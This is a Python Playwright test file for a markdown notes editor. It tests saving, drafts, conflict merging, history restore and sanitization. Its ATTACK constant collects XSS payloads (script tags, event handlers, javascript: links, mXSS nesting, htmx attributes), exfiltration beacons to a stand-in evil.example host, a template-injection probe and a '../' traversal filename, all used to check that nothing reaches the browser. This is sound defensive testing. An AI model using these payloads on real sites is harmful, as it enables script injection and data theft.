"""Memory in a browser: edit, preview, conflict, restore, drafts; without JavaScript too; markdown attacks."""

from datetime import UTC, datetime
from pathlib import Path

import pytest
from playwright.sync_api import BrowserContext, Dialog, Page, expect

from memory import editing
from memory.models import Revision, digest
from memory.places import user_place
from tests.browser.conftest import Watched

NOW = datetime(2026, 11, 23, 9, tzinfo=UTC)
BASE = "# now\n\nfirst\n\nsecond\n"
EDIT = "/memory/user/edit/"
NO_DRAFT = "!Object.keys(localStorage).some((key) => key.startsWith('halo-draft'))"
ATTACK = """# <script>alert(1)</script> [x](javascript:alert(1)) heading

<script>alert(1)</script><img src=x onerror=alert(1)><svg onload=alert(1)><animate onbegin=alert(1)></svg>
[link](javascript:alert(1)) [data](data:text/html,<script>alert(1)</script>) <javascript:alert(1)>

![pixel](https://evil.example/?q=secret) <img src="https://evil.example/p.png">
<style>body{background:url(https://evil.example/c.png)}</style><p style="background:url(https://evil.example/d)">x</p>
<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>
<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>
<template><script>alert(1)</script></template>
<b hx-get="https://evil.example/" hx-trigger="load" data-hx-on:click="alert(1)" hx-vals="js:alert(1)">x</b>
<div sse-connect="https://evil.example/" hx-swap-oob="true" id="memory-text" name="text">x</div>
<form action="https://evil.example/"><input name="csrfmiddlewaretoken"></form>
<meta http-equiv="refresh" content="0;url=https://evil.example/"><base href="https://evil.example/">
<link rel="prefetch" href="https://evil.example/"><iframe srcdoc="<script>alert(1)</script>"></iframe>
<a href="https://evil.example/" ping="https://evil.example/p" id="memory-form">x</a>
</textarea><script>alert(1)</script>
{{ 7|add:7 }} {% now "Y" %}
"""


def main_file() -> Path:
    return user_place().base / user_place().file


def saved(text: str, base: str | None = None) -> None:
    """Save ``text`` as the user's main file, on top of ``base``."""
    before = "" if base is None else digest(base.encode())
    editing.save(user_place(), "", text, base=before, by="somebody", now=NOW)


def field(page: Page):
    return page.locator("#memory-text")


def is_kept(page: Page, state: str = "yes") -> None:
    """Wait until the page has decided about its draft."""
    page.locator(f'[data-is-kept="{state}"]').wait_for()


def is_without_drafts(page: Page) -> bool:
    page.wait_for_load_state()
    return page.evaluate(NO_DRAFT)


def test_edit_save_and_it_is_on_the_disk(watched_page):
    saved(BASE)
    watched_page.goto(EDIT)
    field(watched_page).fill(BASE + "\n## more\n\nwords *here*\n")
    watched_page.locator("#memory-preview em").get_by_text("here").wait_for()
    field(watched_page).press("Control+s")
    watched_page.locator(".message").get_by_text("Saved.").wait_for()
    assert main_file().read_text() == BASE + "\n## more\n\nwords *here*\n"


def test_the_outline_leads_to_the_line(watched_page):
    saved("# now\n\n" + "words and words\n\n" * 200 + "# last\n")
    watched_page.goto(EDIT)
    watched_page.locator("#memory-outline summary").click()
    watched_page.locator("#memory-outline").get_by_text("last").click()
    chosen = "(box) => [box.value.slice(box.selectionStart, box.selectionEnd), box.scrollTop > 1000]"
    assert field(watched_page).evaluate(chosen) == ["# last", True]


def test_tab_leads_out_of_the_text(watched_page):
    watched_page.goto(EDIT)
    field(watched_page).press("Tab")
    assert watched_page.evaluate("document.activeElement.id") != "memory-text"


def test_a_draft_is_kept_until_it_is_saved(signed_in):
    saved(BASE)
    page = signed_in.new_page()
    asked = []
    page.on("dialog", lambda dialog: (asked.append(dialog.type), dialog.accept()))
    page.goto(EDIT)
    field(page).press_sequentially("typed ")
    page.goto("/memory/user/")
    assert asked == ["beforeunload"]
    page.goto(EDIT)
    page.get_by_role("button", name="Take it").click()
    expect(field(page)).to_have_value("typed " + BASE)
    page.get_by_role("button", name="Save").click()
    page.locator(".message").get_by_text("Saved.").wait_for()
    page.wait_for_function(NO_DRAFT)
    assert asked == ["beforeunload"]


def test_a_preview_that_gives_way_to_a_newer_one_is_no_trouble(watched_page):
    watched_page.goto(EDIT)
    watched_page.route("**/preview/", lambda route: None)  # it never answers
    with watched_page.expect_request("**/preview/"):
        field(watched_page).fill("one")
    watched_page.unroute("**/preview/")
    field(watched_page).fill("# two")
    watched_page.locator("#memory-preview h1").get_by_text("two").wait_for()
    expect(watched_page.locator("[data-alert]")).to_have_count(0)
    watched_page.on("dialog", Dialog.accept)


def test_whoever_is_signed_out_while_typing_keeps_the_text(signed_in):
    page = signed_in.new_page()
    page.goto(EDIT)
    signed_in.clear_cookies()
    field(page).press_sequentially("typed")
    page.locator("[data-alert]").get_by_text("The preview stands still").wait_for()
    expect(field(page)).to_have_value("typed")


def test_what_is_typed_while_a_save_is_on_its_way_stays_in_the_text(signed_in):
    saved(BASE)
    page = signed_in.new_page()
    page.on("dialog", Dialog.accept)
    page.goto(EDIT)
    field(page).fill("before ")
    on_its_way = []
    page.route("**/save/", lambda route: on_its_way.append(route))
    with page.expect_request("**/save/"):
        page.keyboard.press("Control+s")
    page.keyboard.type("during ")
    on_its_way[0].continue_()
    page.get_by_text("is back in it, and is not saved yet").wait_for()
    page.keyboard.type("after")
    assert (field(page).input_value(), main_file().read_text()) == ("before during after", "before ")
    page.unroute("**/save/")
    page.keyboard.press("Control+s")
    page.get_by_text("Saved.").wait_for()
    assert is_without_drafts(page)
    assert main_file().read_text() == "before during after"


def test_what_is_typed_while_a_refused_save_is_on_its_way_stays_too(signed_in):
    saved(BASE)
    page = signed_in.new_page()
    page.on("dialog", Dialog.accept)
    page.goto("/memory/user/new/")
    page.get_by_label("Name of the file").fill("../out.md")
    field(page).fill("before ")
    on_its_way = []
    page.route("**/create/", lambda route: on_its_way.append(route))
    with page.expect_request("**/create/"):
        page.keyboard.press("Control+s")
    page.keyboard.type("during")
    on_its_way[0].continue_()
    page.get_by_text("is back in it, and is not saved yet").wait_for()
    expect(field(page)).to_have_value("before during")
    expect(page.get_by_text("This was not saved")).to_be_visible()


def test_what_is_typed_while_a_save_meets_a_newer_text_is_offered_afterwards(signed_in):
    saved(BASE)
    page = signed_in.new_page()
    page.goto(EDIT)
    field(page).fill("mine ")
    saved("theirs", BASE)
    on_its_way = []
    page.route("**/save/", lambda route: on_its_way.append(route))
    with page.expect_request("**/save/"):
        page.keyboard.press("Control+s")
    page.keyboard.type("during")
    on_its_way[0].continue_()
    page.get_by_text("it is kept as a draft, and the editor offers it").wait_for()
    page.get_by_role("button", name="Mine", exact=True).click()
    page.get_by_role("button", name="Save what is put together").click()
    page.get_by_role("button", name="Take it").click()
    assert (main_file().read_text().strip(), field(page).input_value()) == ("mine", "mine during")


def left_behind(context: BrowserContext, text: str, address: str = EDIT) -> None:
    """Type ``text`` in a tab of its own, and close it."""
    page = context.new_page()
    page.goto(address)
    field(page).press_sequentially(text)
    is_kept(page)
    page.close()


def test_an_offered_draft_outlives_what_is_typed_beside_it(signed_in):
    left_behind(signed_in, "left ")
    page = signed_in.new_page()
    page.on("dialog", Dialog.accept)
    page.goto(EDIT)
    page.get_by_role("button", name="Take it").wait_for()
    field(page).press_sequentially("new ")
    is_kept(page)
    page.get_by_role("button", name="Take it").click()
    expect(field(page)).to_have_value("left ")
    page.get_by_role("button", name="Take it").click()
    expect(field(page)).to_have_value("new ")
    expect(page.get_by_role("button", name="Take it")).to_have_count(1)


def test_tabs_keep_a_draft_each(signed_in):
    first, second = signed_in.new_page(), signed_in.new_page()
    for page in (first, second):
        page.on("dialog", Dialog.accept)
    first.goto("/memory/user/new/")
    field(first).press_sequentially("first")
    is_kept(first)
    second.goto("/memory/user/new/")
    field(second).press_sequentially("x")
    is_kept(second)
    expect(second.locator("[data-draft-offer]")).to_be_hidden()
    field(second).press("Backspace")
    is_kept(second, "")
    first.close()
    second.reload()
    second.get_by_role("button", name="Take it").click()
    expect(field(second)).to_have_value("first")


def test_no_draft_is_left_of_a_file_that_was_made(watched_page):
    watched_page.goto("/memory/user/new/")
    watched_page.get_by_label("Name of the file").fill("notes.md")
    field(watched_page).press_sequentially("noted")
    watched_page.get_by_role("button", name="Make the file").click()
    watched_page.get_by_text("notes.md was made").wait_for()
    assert is_without_drafts(watched_page)


def test_no_draft_is_left_of_a_copy_that_was_saved(signed_in):
    saved(BASE)
    page = signed_in.new_page()
    page.goto(EDIT)
    field(page).fill("mine")
    saved("theirs", BASE)
    page.get_by_role("button", name="Save").click()
    page.get_by_role("button", name="Save mine as a copy").click()
    page.get_by_text("Your text is kept as").wait_for()
    assert is_without_drafts(page)


def test_a_draft_that_cannot_be_kept_is_not_claimed(signed_in):
    page = signed_in.new_page()
    page.add_init_script(
        "Storage.prototype.setItem = () => { throw new DOMException('', 'QuotaExceededError'); }"
    )
    page.goto(EDIT)
    page.route("**/preview/", lambda route: route.fulfill(status=500))
    field(page).press_sequentially("typed")
    page.locator("[data-alert]").get_by_text("The preview stands still").wait_for()
    expect(page.get_by_text("No draft of this text could be kept")).to_have_count(1)
    expect(page.get_by_text("draft of it is kept")).to_have_count(0)


def test_a_heading_shows_that_it_folds(watched_page):
    saved(BASE)
    watched_page.goto("/memory/user/")
    marker = "(summary) => getComputedStyle(summary, '::before').opacity"
    assert watched_page.locator("#memory-document .prose summary").first.evaluate(marker) == "1"


def test_an_old_draft_never_overwrites_what_came_later(signed_in):
    saved(BASE)
    page = signed_in.new_page()
    page.on("dialog", Dialog.accept)
    page.goto(EDIT)
    field(page).press_sequentially("typed ")
    page.goto("/memory/user/")
    saved(BASE + "newer\n", BASE)
    page.goto(EDIT)
    page.get_by_role("button", name="Take it").click()
    page.get_by_role("button", name="Save").click()
    page.get_by_role("heading", name="moved on while you wrote").wait_for()
    assert main_file().read_text() == BASE + "newer\n"


def test_signing_out_forgets_drafts(signed_in):
    page = signed_in.new_page()
    page.on("dialog", Dialog.accept)
    page.goto(EDIT)
    field(page).press_sequentially("private")
    page.locator(".account summary").click()
    page.get_by_role("button", name="Sign out").click()
    page.wait_for_url("**/login/")
    page.wait_for_function(NO_DRAFT)


def test_a_conflict_is_decided_place_by_place(signed_in):
    saved(BASE)
    page = signed_in.new_page()
    page.goto(EDIT)
    field(page).fill(BASE.replace("first", "mine").replace("second", "second of mine"))
    theirs = BASE.replace("first", "theirs")
    saved(theirs, BASE)
    page.get_by_role("button", name="Save").click()
    page.get_by_role("button", name="Both", exact=True).click()
    page.get_by_role("button", name="Save what is put together").click()
    page.locator(".message").get_by_text("Saved, with what both").wait_for()
    assert main_file().read_text() == "# now\n\nmine\ntheirs\n\nsecond of mine\n"
    expect(page.locator("[data-draft-offer]")).to_be_hidden()


def test_an_earlier_text_is_restored(watched_page):
    saved(BASE)
    saved("worse\n", BASE)
    watched_page.goto("/memory/user/history/")
    watched_page.locator("tbody tr").nth(1).get_by_role("link").first.click()
    watched_page.get_by_role("button", name="Restore this").click()
    watched_page.locator(".message").get_by_text("Restored.").wait_for()
    assert main_file().read_text() == BASE


def test_the_same_without_javascript(plain_page):
    saved(BASE)
    page = plain_page
    page.goto(EDIT)
    field(page).fill(BASE.replace("first", "# mine"))
    page.get_by_role("button", name="Preview").click()
    expect(page.locator("#memory-preview h1").get_by_text("mine")).to_be_visible()
    saved(BASE.replace("second", "theirs"), BASE)
    page.get_by_role("button", name="Save").click()
    page.get_by_role("button", name="Save what is put together").click()
    assert main_file().read_text() == "# now\n\n# mine\n\ntheirs\n"
    page.get_by_role("link", name="History").click()
    page.locator("tbody tr").last.get_by_role("link").first.click()
    page.get_by_role("button", name="Restore this").click()
    assert main_file().read_text() == BASE


def test_no_markdown_attack_reaches_the_browser(watched_page):
    saved(BASE)
    saved(ATTACK, BASE)
    newest = Revision.objects.latest("id").pk
    addresses = ("", "edit/", "history/", f"history/{newest}/", f"history/{newest}/?with=now", "blame/")
    for address in addresses:
        watched_page.goto(f"/memory/user/{address}", wait_until="networkidle")
        expect(
            watched_page.locator("#main :is(script, iframe, style, base, meta, img)"), address
        ).to_have_count(0)
    watched_page.goto(EDIT)
    field(watched_page).fill(ATTACK + "\n\ntyped")
    watched_page.locator("#memory-preview").get_by_text("typed").wait_for()
    assert (
        watched_page.locator("#memory-preview :is(form, input, [hx-get], [style], [id^=memory-t])").count()
        == 0
    )


@pytest.mark.parametrize("theirs", [ATTACK, BASE])
def test_no_attack_reaches_the_browser_by_a_conflict(signed_in, theirs):
    saved(BASE)
    watched = Watched(signed_in)
    page = signed_in.new_page()
    page.goto(EDIT)
    field(page).fill(ATTACK.replace("heading", "mine"))
    saved(theirs.replace("heading", "theirs") + "more", BASE)
    page.get_by_role("button", name="Save").click()
    page.get_by_role("heading", name="moved on while you wrote").wait_for()
    page.wait_for_load_state("networkidle")
    expect(page.locator("#main :is(script, iframe, style, base, meta, img)")).to_have_count(0)
    refused = [problem for problem in watched.problems if "409" not in problem]
    assert refused == []
